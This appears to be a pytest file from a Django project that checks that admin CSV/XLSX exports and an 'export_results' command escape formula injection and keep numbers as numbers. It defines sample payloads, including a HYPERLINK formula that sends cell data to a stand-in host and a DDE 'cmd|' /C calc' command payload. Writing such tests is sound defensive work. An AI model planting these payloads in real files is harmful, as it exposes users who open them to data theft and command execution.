"""Formula (CSV) injection: names that a spreadsheet would run as formulas are accepted as data
but every file the project writes escapes them (OWASP: a leading apostrophe, value otherwise
kept); numbers stay numeric cells; no cell is ever a formula (issue 10).

Every admin that exports (found from the admin site, so a new one is covered) is exported in
CSV and XLSX and read back, and so is `export_results`."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from import_export.admin import ExportMixin, ImportMixin

from communities.factories import (
    BuildingFactory,
    CommunityFactory,
    EstateFactory,
    HouseholdFactory,
    OwnersCommitteeFactory,
    PropertyCompanyFactory,
    ServiceContractFactory,
    TownFactory,
    UserFactory,
)
from governance.spreadsheets import FORMULA_PREFIXES
from governance.spreadsheets.admin_io import (
    SafeCSV,
    SafeXLSX,
    SpreadsheetExportMixin,
    SpreadsheetImportMixin,
    SpreadsheetResourceMixin,
)
from party_grid.factories import (
    GroupFactory,
    HouseholdAssignmentFactory,
    PartyMemberFactory,
    VisitFactory,
)
from property_rating.factories import AnnualResultFactory, AssessmentUnitFactory, PayoutFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x/?"&A1,"点击")'
PLUS = "+1+2"
MINUS = "-2+3"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
PAYLOADS = [HYPERLINK, PLUS, MINUS, AT, TAB, CR]

EXPORTING_ADMINS = sorted(
    model._meta.label_lower
    for model, model_admin in admin.site._registry.items()
    if isinstance(model_admin, ExportMixin)
)


def test_every_admin_export_and_import_goes_through_the_safe_formats():
    assert set(EXPORTING_ADMINS) >= {
        "communities.estate",
        "communities.building",
        "communities.household",
        "communities.propertycompany",
        "communities.servicecontract",
        "communities.ownerscommittee",
        "party_grid.partymember",
        "party_grid.householdassignment",
        "party_grid.visit",
        "property_rating.annualresult",
        "property_rating.payout",
    }
    for model, model_admin in admin.site._registry.items():
        if isinstance(model_admin, ExportMixin):
            assert isinstance(model_admin, SpreadsheetExportMixin), model
            assert set(model_admin.get_export_formats()) <= {SafeCSV, SafeXLSX}, model
        if isinstance(model_admin, ImportMixin):
            assert isinstance(model_admin, SpreadsheetImportMixin), model
            assert set(model_admin.get_import_formats()) <= {SafeCSV, SafeXLSX}, model
            for resource in model_admin.get_import_resource_classes(None):
                assert issubclass(resource, SpreadsheetResourceMixin), (model, resource)


@pytest.fixture
def poisoned(db):
    """Every exported model carries names that are formulas."""
    town = TownFactory(name="注入镇")
    community = CommunityFactory(town=town, name="注入社区")
    estate = EstateFactory(community=community, name=HYPERLINK, supervising_unit=TAB)
    company = PropertyCompanyFactory(name=PLUS, address=CR)
    building = BuildingFactory(estate=estate, name=MINUS)
    household = HouseholdFactory(building=building, room="@SUM(1+1)")  # rooms are short
    ServiceContractFactory(estate=estate, company=company)
    OwnersCommitteeFactory(estate=estate)
    member = PartyMemberFactory(
        organization=GroupFactory(community=community), name=AT, employer=HYPERLINK
    )
    HouseholdAssignmentFactory(member=member, household=household)
    VisitFactory(member=member, household=household, note=HYPERLINK, problem=PLUS)
    unit = AssessmentUnitFactory(estate=estate, company=company, town=town, year=2021)
    AnnualResultFactory(unit=unit, annual_score=Decimal("80.50"), rank=1, list_name="")
    PayoutFactory(
        unit=unit,
        amount=Decimal("12.50"),
        payment_reference=MINUS,
        approved_at=timezone.now(),  # an aware datetime must export too (XLSX has no zones)
    )
    return town


@pytest.fixture
def superuser_client(client):
    client.force_login(UserFactory(username="root", is_staff=True, is_superuser=True))
    return client


def _export(client, label, fmt):
    app_label, model_name = label.split(".")
    url = reverse(f"admin:{app_label}_{model_name}_export")
    form = client.get(url).context["form"]
    choices = {str(lbl).upper(): value for value, lbl in form.fields["format"].choices}
    data = {"format": choices[fmt], "resource": 0}
    for name in form.fields:
        if name not in ("format", "resource", "export_items"):
            data[name] = "on"
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment")
    return response.content


def _assert_safe_text(value):
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        Decimal(value)  # only a plain number may begin with "-" (or "+")


def _csv_cells(content) -> list[str]:
    text = content.decode("utf-8-sig") if isinstance(content, bytes) else content
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(content):
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for row in workbook.active.iter_rows() for cell in row]


@pytest.mark.parametrize("label", EXPORTING_ADMINS)
def test_admin_csv_export_escapes_formulas(superuser_client, poisoned, label):
    cells = _csv_cells(_export(superuser_client, label, "CSV"))
    for cell in cells:
        _assert_safe_text(cell)
    escaped = [c for c in cells if c.startswith("'") and c[1:2] in ("=", "+", "-", "@", "\t", "\r")]
    assert escaped, f"no payload reached the {label} export: {cells}"
    assert all(any(c[1:].startswith(p[:4]) for p in PAYLOADS) for c in escaped)


@pytest.mark.parametrize("label", EXPORTING_ADMINS)
def test_admin_xlsx_export_writes_no_formula_and_keeps_numbers(superuser_client, poisoned, label):
    cells = _xlsx_cells(_export(superuser_client, label, "XLSX"))
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells]
    for cell in cells:
        _assert_safe_text(cell.value)
    escaped = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("'")]
    assert escaped, f"no payload reached the {label} export"
    numbers = [c.value for c in cells if c.data_type == "n"]
    if label == "property_rating.payout":
        assert 12.5 in numbers  # amounts stay numeric cells
    if label == "communities.estate":
        assert 500 in numbers


def test_payout_csv_keeps_the_amount_and_escapes_the_reference(superuser_client, poisoned):
    cells = _csv_cells(_export(superuser_client, "property_rating.payout", "CSV"))
    assert "12.50" in cells
    assert "'-2+3" in cells


@pytest.mark.parametrize("suffix", ["csv", "xlsx"])
def test_export_results_escapes_formulas(tmp_path, poisoned, suffix):
    out = tmp_path / f"results.{suffix}"
    call_command("export_results", "--town", poisoned.name, "--year", "2021", "--output", str(out))
    if suffix == "csv":
        rows = list(csv.reader(out.open(encoding="utf-8")))
        assert rows[1][:2] == ["'" + HYPERLINK, "'" + PLUS]
        assert rows[1][2] == "80.50"
        for cell in (c for row in rows for c in row):
            _assert_safe_text(cell)
    else:
        cells = _xlsx_cells(out.read_bytes())
        assert all(cell.data_type != "f" for cell in cells)
        values = [c.value for c in cells]
        assert "'" + HYPERLINK in values and "'" + PLUS in values
        score = next(c for c in cells if c.row == 2 and c.column == 3)
        assert score.data_type == "n" and score.value == 80.5
        for value in values:
            _assert_safe_text(value)


@pytest.mark.parametrize("fmt", ["CSV", "XLSX"])
def test_an_exported_file_imports_back_without_changing_the_names(superuser_client, poisoned, fmt):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from communities.models import Estate

    content = _export(superuser_client, "communities.estate", fmt)
    url = reverse("admin:communities_estate_import")
    form = superuser_client.get(url).context["form"]
    choices = {str(lbl).upper(): value for value, lbl in form.fields["format"].choices}
    upload = SimpleUploadedFile(f"estates.{fmt.lower()}", content)
    response = superuser_client.post(url, {"import_file": upload, "format": choices[fmt]})
    assert response.status_code == 200
    assert not response.context["form"].errors, response.context["form"].errors
    confirm_form = response.context["confirm_form"]
    data = {name: confirm_form.initial.get(name, "") for name in confirm_form.fields}
    superuser_client.post(reverse("admin:communities_estate_process_import"), data)
    assert list(Estate.objects.values_list("name", "supervising_unit")) == [(HYPERLINK, TAB)]
